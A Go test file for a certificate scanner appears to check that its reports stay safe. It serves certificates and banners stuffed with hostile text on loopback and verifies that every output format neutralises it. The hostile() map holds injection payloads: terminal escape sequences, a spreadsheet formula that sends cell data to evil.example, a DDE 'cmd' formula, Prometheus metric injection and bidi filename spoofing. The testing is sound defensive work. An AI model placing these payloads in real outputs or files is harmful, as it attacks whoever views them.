package main

import (
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"io"
	"net"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/prometheus/common/expfmt"
	"github.com/prometheus/common/model"

	"example.com/certscan/internal/lab"
)

// hostile are texts that do something to whoever prints them carelessly.
func hostile() map[string]string {
	return map[string]string{
		"terminal":  "\x1b]0;owned\x07\x1b[2J\x1b[31mgreen\x9b31m\x7f",
		"formula":   `=HYPERLINK("http://evil.example/?"&A1,"ok")`,
		"plus":      "+1+cmd|' /C calc'!A0",
		"minus":     "-2+3",
		"at":        "@SUM(1:9)",
		"tab":       "\t=1+1",
		"newline":   "evil\r\nok.example,443,tls\n# TYPE certscan_fake gauge\ncertscan_fake 1",
		"direction": "\u202egnp.exe\u2066\u200b\u2028\ufeff",
		"quotes":    `"},{"type":"summary"} ' \ {a="b"} <script>`,
		"utf-8":     "\xff\xfe\xc0\xaf",
	}
}

// hostileFleet serves a certificate full of each text, one with 10,000 names,
// and banners that are no TLS. It returns a list in CSV, with hostile labels.
func hostileFleet(t *testing.T) (list string) {
	t.Helper()
	var rows strings.Builder
	w := csv.NewWriter(&rows)
	w.Write([]string{"host", "port", "owner", "environment", "platform", "note"})
	add := func(text string, handler func(net.Conn)) {
		addr := netListen(t, handler)
		host, port, _ := net.SplitHostPort(addr)
		w.Write([]string{host, port, text, text, text, text})
	}
	for _, text := range hostile() {
		cert := hostileCertificate(t, text, []string{text + ".example", "*." + text})
		config := &tls.Config{Certificates: []tls.Certificate{lab.Chain(cert)}}
		add(text, func(c net.Conn) {
			conn := tls.Server(c, config)
			if conn.Handshake() == nil {
				io.Copy(io.Discard, conn)
			}
		})
		add(text, func(c net.Conn) { io.WriteString(c, "SSH-2.0-"+text+"\r\n") })
	}
	names := make([]string, 10_000)
	for i := range names {
		names[i] = fmt.Sprintf("n%d.many.example", i)
	}
	config := &tls.Config{Certificates: []tls.Certificate{lab.Chain(hostileCertificate(t, "many", names))}}
	add("many", func(c net.Conn) {
		conn := tls.Server(c, config)
		if conn.Handshake() == nil {
			io.Copy(io.Discard, conn)
		}
	})
	w.Flush()
	return rows.String()
}

// hostileCertificate is self-signed and has text wherever there is room for it.
func hostileCertificate(t *testing.T, text string, names []string) *lab.Certificate {
	t.Helper()
	var extension []byte // crypto/x509 would refuse to write such names
	for _, n := range names {
		extension = append(extension, der(0x82, []byte(n))...)
	}
	cert, err := lab.Issue(nil, lab.Spec{
		CommonName: "cn", NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(240 * time.Hour),
		Template: func(c *x509.Certificate) {
			c.Subject = pkix.Name{}
			var name []byte
			for _, attribute := range []byte{3, 10, 11} { // commonName, organizationName, organizationalUnitName
				pair := append(der(0x06, []byte{0x55, 0x04, attribute}), der(0x0c, []byte(text))...)
				name = append(name, der(0x31, der(0x30, pair))...)
			}
			c.RawSubject = der(0x30, name)
			c.ExtraExtensions = append(c.ExtraExtensions, pkix.Extension{Id: []int{2, 5, 29, 17}, Value: der(0x30, extension)})
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	return cert
}

// der is one value in DER.
func der(tag byte, content []byte) []byte {
	length := []byte{byte(len(content))}
	if n := len(content); n > 127 {
		length = []byte{0x83, byte(n >> 16), byte(n >> 8), byte(n)}
		for length[1] == 0 {
			length = append([]byte{length[0] - 1}, length[2:]...)
		}
	}
	return append(append([]byte{tag}, length...), content...)
}

// netListen serves connections on loopback until the test ends.
func netListen(t *testing.T, handler func(net.Conn)) (addr string) {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var conns sync.WaitGroup
	t.Cleanup(func() {
		ln.Close()
		conns.Wait()
	})
	conns.Go(func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			conns.Go(func() {
				defer c.Close()
				if c.SetDeadline(time.Now().Add(30*time.Second)) == nil {
					handler(c)
				}
			})
		}
	})
	return ln.Addr().String()
}

// TestHostileText prints certificates, banners and labels that were written to
// do harm, by every command in every format.
func TestHostileText(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	writeFiles(t, dir, map[string]string{"list.csv": hostileFleet(t)})
	scan := []string{"scan", "--fail-on", "never", "--timeout", "3s", "--db", "DIR/some.db", "-f", "DIR/list.csv"}
	first := certscan(t, t.Context(), dir, "", append(scan, "--format", "json")...)
	if first.status != exitOK {
		t.Fatalf("exit status %d: %s", first.status, first.errors)
	}
	var report labReport
	if err := json.Unmarshal([]byte(first.out), &report); err != nil {
		t.Fatal(err)
	}
	if want := 2*len(hostile()) + 1; len(report.Endpoints) != want {
		t.Errorf("the report has %d endpoints, want %d", len(report.Endpoints), want)
	}
	served, many, digest := 0, 0, "" // many: the most names that one has
	for _, e := range report.Endpoints {
		if e.Certificate != nil {
			served, many, digest = served+1, max(many, len(e.Certificate.Names)), e.Certificate.SHA256.String()
		}
	}
	if served != len(hostile())+1 || many != 10_000 {
		t.Errorf("%d certificates were recorded, one with %d names, want %d and 10,000", served, many, len(hostile())+1)
	}
	target := report.Endpoints[0].Target

	all := []string{"table", "json", "csv", "jsonl"}
	for _, tt := range []struct {
		args    string
		formats []string
	}{
		{strings.Join(scan, " "), append(all, "prometheus", "sarif", "junit")},
		{"inventory --db DIR/some.db", append(all, "prometheus", "sarif", "junit")},
		{"inventory --db DIR/some.db --by issuer", all},
		{"inventory --db DIR/some.db --by owner", all},
		{"inventory --db DIR/some.db --by certificate", []string{"table", "csv"}},
		{"findings --db DIR/some.db --since 1d", all},
		{"diff --db DIR/some.db --since 1d", all},
		{"history --db DIR/some.db " + target, all},
		{"where --db DIR/some.db " + digest, all},
		{"show --db DIR/some.db " + digest, []string{"table", "json"}},
		{"show --db DIR/some.db " + target, []string{"table", "json"}},
	} {
		for _, format := range tt.formats {
			got := certscan(t, t.Context(), dir, "", append(strings.Fields(tt.args), "--format", format)...)
			if got.status != exitOK {
				t.Errorf("%s --format %s: exit status %d: %s", tt.args, format, got.status, got.errors)
			}
			for _, problem := range append(harm(got.errors), harmIn(format, got.out)...) {
				t.Errorf("%s --format %s: %s", tt.args, format, problem)
			}
		}
	}
	// Every certificate and target on its own, and from a file.
	for _, e := range report.Endpoints {
		if e.Certificate == nil {
			continue
		}
		file := filepath.Join(dir, "one.pem")
		certscan(t, t.Context(), dir, "", "show", "--db", "DIR/some.db", "--pem", e.Certificate.SHA256.String(), "-o", file)
		for _, args := range []string{"show --db DIR/some.db " + e.Target, "show --db DIR/some.db " + e.Certificate.SHA256.String(), "verify --fail-on never " + file, "verify --format json --fail-on never " + file} {
			got := certscan(t, t.Context(), dir, "", strings.Fields(args)...)
			for _, problem := range append(harm(got.errors), harm(got.out)...) {
				t.Errorf("%s: %s", args, problem)
			}
		}
	}
}

// harmIn says what is wrong with an answer.
func harmIn(format, text string) []string {
	switch format {
	case "table":
		return harm(text)
	case "csv":
		return harmInCSV(text)
	case "junit":
		var doc struct {
			Suites []struct{} `xml:"testsuite"`
		}
		if err := xml.Unmarshal([]byte(text), &doc); err != nil || len(doc.Suites) == 0 {
			return []string{fmt.Sprintf("not XML, or empty: %v", err)}
		}
		return harm(text)
	case "prometheus":
		parser := expfmt.NewTextParser(model.UTF8Validation)
		families, err := parser.TextToMetricFamilies(strings.NewReader(text))
		if err != nil {
			return []string{err.Error()}
		}
		if len(families) == 0 || families["certscan_fake"] != nil {
			return []string{"a certificate made a metric, or there is none"}
		}
		return nil
	}
	for line := range strings.Lines(text) {
		if format == "jsonl" && !json.Valid([]byte(line)) {
			return []string{"not JSON: " + line}
		}
	}
	if (format == "json" || format == "sarif") && !json.Valid([]byte(text)) {
		return []string{"not JSON"}
	}
	return nil
}

func harmInCSV(text string) (problems []string) {
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		return []string{err.Error()}
	}
	for _, row := range rows {
		for _, cell := range row {
			_, err := strconv.ParseFloat(cell, 64)
			if cell != "" && strings.ContainsRune("=+-@\t\r\n|%", rune(cell[0])) && err != nil {
				problems = append(problems, fmt.Sprintf("a cell begins a formula: %q", cell))
			}
			problems = append(problems, harm(cell)...)
		}
	}
	return problems
}

// harm lists what in a text would act on a terminal.
func harm(text string) (problems []string) {
	if !utf8.ValidString(text) {
		problems = append(problems, "not UTF-8")
	}
	for i, r := range text {
		if r != '\n' && (unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r)) || r == '\u2028' || r == '\ufeff' || r == '\u200b' {
			problems = append(problems, fmt.Sprintf("%U in %q", r, text[max(0, i-40):min(len(text), i+20)]))
			if len(problems) == 3 {
				break
			}
		}
	}
	return problems
}
